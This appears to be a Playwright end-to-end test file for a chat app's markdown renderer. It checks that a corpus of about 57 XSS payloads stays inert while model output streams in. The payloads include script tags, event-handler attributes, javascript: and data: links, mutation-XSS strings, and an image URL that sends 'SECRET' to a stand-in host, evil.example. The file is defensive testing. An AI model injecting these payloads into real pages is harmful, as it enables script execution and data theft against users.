import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Browser, type Page, chromium } from "playwright-core";
import { type ChatServer, startChat } from "../support/chat-server.ts";
import { type FakeOpenAI, directive, startFakeOpenAI } from "../support/fake-openai.ts";

const CHROMIUM = "/usr/bin/chromium";
const root = join(import.meta.dir, "..", "..");
const shots = join(root, "test-results");
const hasChromium = existsSync(CHROMIUM);
if (!hasChromium && process.env.CI) {
  throw new Error(`${CHROMIUM} is missing: the browser tests need it (apt-get install chromium).`);
}

/**
 * Model output that tries to run script, load something from another origin or escape the sanitiser.
 * Each calls alert(), so a payload that runs is seen, not just an attribute that survives.
 */
const XSS: readonly string[] = [
  "<script>alert(1)</script>",
  "Hello <img src=x onerror=alert(1)> world",
  '<img src="x" onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  "<img src=x:alert(1) onerror=eval(src)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](<javascript:alert(1)>)",
  "[click](java&#115;cript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  "[<img src=x onerror=alert(1)>](https://ok.example)",
  '<a href="javascript:alert(1)">raw js link</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab in scheme</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">entities</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_self" name="cookie" id="root">ok</a>',
  '<a href="//evil.example/x">protocol-relative</a>',
  "![x](javascript:alert(1))",
  "![leak](https://evil.example/leak.png?d=SECRET)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/b)}</style>",
  '<p style="background:url(https://evil.example/x)">styled</p>',
  "<details open ontoggle=alert(1)>",
  "<div onmouseover=\"alert(1)\">hover</div>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<x onclick=alert(1)>custom</x>",
  "<template><img src=x onerror=alert(1)></template>",
  "<scr<script>ipt>alert(1)</script>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "**<img src=x onerror=alert(1)>**",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  '```js" onmouseover="alert(1)\nx\n```',
  "- [ ] <input type=text onfocus=alert(1) autofocus>",
  '<span class="hljs-keyword x-evil" style="position:fixed">classes</span>',
];

/** A page with no CSP at all: only the sanitiser stands between these payloads and the DOM. */
const HARNESS_ENTRY = `
import { mountMarkdown } from "${join(root, "client/markdown/view.ts")}";
import { markdownToHtml } from "${join(root, "client/markdown/render.ts")}";
import { createSanitizer } from "${join(root, "client/markdown/sanitize.ts")}";
const classes = { block: "block", codeBlock: "code-block", codeHeader: "code-header", codeLang: "code-lang", copyCode: "copy-code" };
const sanitize = createSanitizer();
window.fired = [];
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = (...a) => window.fired.push(name + ":" + a.join(","));
/** Final rendering, and every prefix as an open (streaming) block, all in the live document. */
window.renderAll = (payloads) => payloads.map((md) => {
  const final = document.createElement("div");
  document.body.append(final);
  mountMarkdown(final, classes).update(md, false);
  const open = [];
  for (let end = 1; end <= md.length; end++) {
    const el = document.createElement("div");
    el.append(sanitize(markdownToHtml(md.slice(0, end), { open: true })));
    document.body.append(el);
    open.push(el);
  }
  return { final, open };
});
`;

/** Everything in `els` that could run, load or restyle; [] when inert. */
function findHazards(): string[] {
  const found: string[] = [];
  for (const root of document.querySelectorAll("body > div")) {
    for (const el of root.querySelectorAll("*")) {
      const tag = el.tagName.toLowerCase();
      if (!/^(a|b|blockquote|br|code|del|em|h[1-6]|hr|i|input|kbd|li|ol|p|pre|s|span|strong|sub|sup|table|tbody|td|th|thead|tr|ul|div|button)$/.test(tag)) found.push(`<${tag}>`);
      for (const attr of el.getAttributeNames()) {
        if (!/^(href|title|class|align|start|type|checked|disabled|target|rel)$/.test(attr)) found.push(`${tag}[${attr}]`);
      }
      const href = el.getAttribute("href");
      if (href !== null && !/^(https?:\/\/|mailto:)/i.test(href)) found.push(`href=${href}`);
      if (tag === "a" && href !== null && (el.getAttribute("target") !== "_blank" || el.getAttribute("rel") !== "noopener noreferrer")) found.push("a without target/rel");
      if (tag === "input" && (el.getAttribute("type") !== "checkbox" || !el.hasAttribute("disabled"))) found.push(`live input ${el.outerHTML}`);
    }
  }
  return found;
}

let dir: string;
let harness: ReturnType<typeof Bun.serve>;
let browser: Browser;
let fake: FakeOpenAI;
let chat: ChatServer;

const ANSWER = [
  "## Reading a file line by line",
  "",
  "Use a **buffered reader** so memory stays flat; see [the docs](https://docs.python.org/3/).",
  "",
  "```python",
  "def count_lines(path: str) -> int:",
  '    """Counts lines without loading the file."""',
  "    with open(path) as f:",
  "        return sum(1 for _ in f)",
  "```",
  "",
  "| Approach | Memory | Speed |",
  "|:--|:-:|--:|",
  "| `read()` | whole file | fast |",
  "| iterate | one line | fast |",
  "| `readlines()` | whole file | slower |",
  "",
  "1. Open the file with `with`.",
  "2. Iterate; never call *readlines()* on big files.",
  "",
  "> Tip: `wc -l` is faster still.",
].join("\n");
const CODE = ANSWER.split("```python\n")[1]!.split("\n```")[0]!;

describe.skipIf(!hasChromium)("markdown in a real browser", () => {
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "chat-md-e2e-"));
    const binary = join(dir, "chat");
    const building = Bun.spawn([process.execPath, "src/build.ts", binary], { cwd: root, stdout: "pipe", stderr: "pipe" });

    writeFileSync(join(dir, "harness.ts"), HARNESS_ENTRY);
    const bundle = await Bun.build({ entrypoints: [join(dir, "harness.ts")], target: "browser", format: "esm" });
    if (!bundle.success) throw new Error(bundle.logs.join("\n"));
    const js = await bundle.outputs.find((o) => o.path.endsWith(".js"))!.text();
    harness = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      routes: {
        "/": new Response('<!doctype html><meta charset="utf-8"><body><script type="module" src="/h.js"></script>', {
          headers: { "Content-Type": "text/html" },
        }),
        "/h.js": new Response(js, { headers: { "Content-Type": "text/javascript" } }),
      },
      fetch: () => new Response("not found", { status: 404 }),
    });

    fake = startFakeOpenAI({ text: ANSWER, delay: 15 });
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run", "--disable-sync"],
    });
    if ((await building.exited) !== 0) throw new Error(`build failed:\n${await new Response(building.stderr).text()}`);
    chat = await startChat({ binary, env: { OPENAI_API_KEY: "sk-test", OPENAI_BASE_URL: fake.baseURL, OPENAI_MODEL: "gpt-fake" } });
    mkdirSync(shots, { recursive: true });
  }, 90_000);

  afterAll(async () => {
    await browser?.close();
    await chat?.stop();
    await fake?.stop();
    await harness?.stop(true);
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test(`an XSS corpus of ${XSS.length} payloads stays inert, finished and at every streamed prefix, with no CSP to help`, async () => {
    expect(XSS.length).toBeGreaterThanOrEqual(30);
    const context = await browser.newContext();
    const page = await context.newPage();
    const foreign: string[] = [];
    const dialogs: string[] = [];
    const errors: string[] = [];
    page.on("request", (r) => {
      if (!r.url().startsWith(harness.url.href)) foreign.push(r.url());
    });
    page.on("dialog", (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on("pageerror", (e) => errors.push(e.message));
    await page.goto(harness.url.href);
    await page.waitForFunction(() => "renderAll" in window);

    await page.evaluate((payloads) => {
      (window as unknown as { renderAll(p: readonly string[]): unknown }).renderAll(payloads);
    }, XSS);
    // Let load/error events, autofocus and animations fire; sweep the pointer over what is on screen.
    for (let y = 0; y < 720; y += 12) await page.mouse.move(5 + (y % 600), y);
    await Bun.sleep(500);

    expect(await page.evaluate(findHazards)).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { fired: string[] }).fired)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    expect(errors).toEqual([]);
    // The remote image became a link the user may open, naming its host; nothing was fetched.
    const placeholder = page.locator("a.md-image").first();
    expect(await placeholder.textContent()).toBe("Image: leak · open from evil.example");
    expect(await placeholder.getAttribute("href")).toBe("https://evil.example/leak.png?d=SECRET");
    // Code shows the markup as text.
    expect(await page.locator("pre code").filter({ hasText: "<script>alert(1)</script>" }).count()).toBeGreaterThan(0);
    await context.close();
  }, 60_000);

  async function openChat(colorScheme: "light" | "dark" = "light") {
    const context = await browser.newContext({ viewport: { width: 1100, height: 900 }, colorScheme });
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: chat.url });
    const page = await context.newPage();
    const foreign: string[] = [];
    const problems: string[] = [];
    context.on("request", (r) => {
      if (!r.url().startsWith(chat.url)) foreign.push(r.url());
    });
    page.on("pageerror", (e) => problems.push(e.message));
    page.on("console", (m) => {
      if (m.type() === "error" || m.type() === "warning") problems.push(m.text());
    });
    page.on("dialog", (d) => {
      problems.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    await page.goto(chat.url);
    await page.getByRole("textbox", { name: "Message" }).waitFor();
    return { context, page, foreign, problems };
  }

  async function ask(page: Page, text: string) {
    await page.getByRole("textbox", { name: "Message" }).fill(text);
    await page.getByRole("textbox", { name: "Message" }).press("Enter");
  }

  const lastAnswer = (page: Page) => page.locator('[data-role="assistant"]').last();
  const answerEnds = (page: Page) => page.locator('[data-role="assistant"]:last-child[data-status="done"]').waitFor({ timeout: 15_000 });

  test("a streamed markdown answer shows a table, highlighted code and copy buttons that work, with no raw markers on the way", async () => {
    const { context, page, foreign, problems } = await openChat();
    // Record every text the answer shows while it streams (code excluded: there backticks are content).
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { seen: string[] }).seen = seen;
      new MutationObserver(() => {
        const answer = document.querySelector('[data-role="assistant"] [data-markdown="ready"]');
        if (!answer) return;
        const copy = answer.cloneNode(true) as Element;
        for (const c of copy.querySelectorAll("pre, code")) c.remove();
        seen.push(copy.textContent ?? "");
      }).observe(document.body, { subtree: true, childList: true, characterData: true });
    });
    await ask(page, "How do I count lines in a big file?");
    await answerEnds(page);

    const answer = lastAnswer(page);
    expect(await answer.locator("h2").textContent()).toBe("Reading a file line by line");
    expect(await answer.locator("table th").allTextContents()).toEqual(["Approach", "Memory", "Speed"]);
    expect(await answer.locator("table tbody tr").count()).toBe(3);
    expect(await answer.locator("table th").evaluateAll((ths) => ths.map((th) => getComputedStyle(th).textAlign))).toEqual(["left", "center", "right"]);
    expect(await answer.locator("strong").first().textContent()).toBe("buffered reader");
    const link = answer.getByRole("link", { name: "the docs" });
    expect(await link.getAttribute("target")).toBe("_blank");
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    const code = answer.locator("pre code");
    expect(await code.textContent()).toBe(CODE);
    await answer.locator("pre code .hljs-keyword").first().waitFor();
    expect(await answer.locator("pre code .hljs-keyword").count()).toBeGreaterThan(2);
    expect(await answer.locator("pre code .hljs-string").count()).toBeGreaterThan(0);

    await answer.getByRole("button", { name: "Copy", exact: true }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(CODE);
    await answer.getByRole("button", { name: "Copied", exact: true }).waitFor();
    await answer.getByRole("button", { name: "Copy message" }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(ANSWER);

    const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    expect(seen.length).toBeGreaterThan(20);
    const raw = seen.filter((t) => /\*\*|\|\s*:?-|```|\]\(/.test(t));
    expect(raw).toEqual([]);
    await page.screenshot({ path: join(shots, "markdown-light.png"), fullPage: true });
    await context.close();
    expect(foreign).toEqual([]);
    expect(problems).toEqual([]);
  }, 30_000);

  test("screenshot: the markdown answer in dark mode", async () => {
    const { context, page, foreign, problems } = await openChat("dark");
    await ask(page, "How do I count lines in a big file?");
    await answerEnds(page);
    await lastAnswer(page).locator("pre code .hljs-keyword").first().waitFor();
    await page.screenshot({ path: join(shots, "markdown-dark.png"), fullPage: true });
    await context.close();
    expect(foreign).toEqual([]);
    expect(problems).toEqual([]);
  }, 30_000);

  test("hostile markdown streamed through the real server runs nothing and loads nothing from elsewhere", async () => {
    const { context, page, foreign, problems } = await openChat();
    const hostile = XSS.filter((p) => !p.includes("```")).join("\n\n");
    await ask(page, `Be nasty ${directive({ text: hostile, delay: 1 })}`);
    await answerEnds(page);
    await Bun.sleep(300);
    expect(await lastAnswer(page).locator("a.md-image").count()).toBe(1);
    // Only the rendered model output: the message's own toolbar has icons (svg) of ours.
    const rendered = lastAnswer(page).locator("[data-markdown]");
    expect(await rendered.locator("script, img, iframe, object, embed, form, style, svg, math").count()).toBe(0);
    await context.close();
    expect(foreign).toEqual([]);
    // DOMPurify parses in an inert document that inherits the page's CSP, so Chromium reports each inline
    // handler and style there as blocked; that is the parse, not an execution (the harness above, with no CSP, proves
    // nothing runs). Anything else is a problem.
    expect(problems.filter((p) => !/^(Executing inline event handler|Applying inline style) violates/.test(p))).toEqual([]);
  }, 30_000);
});
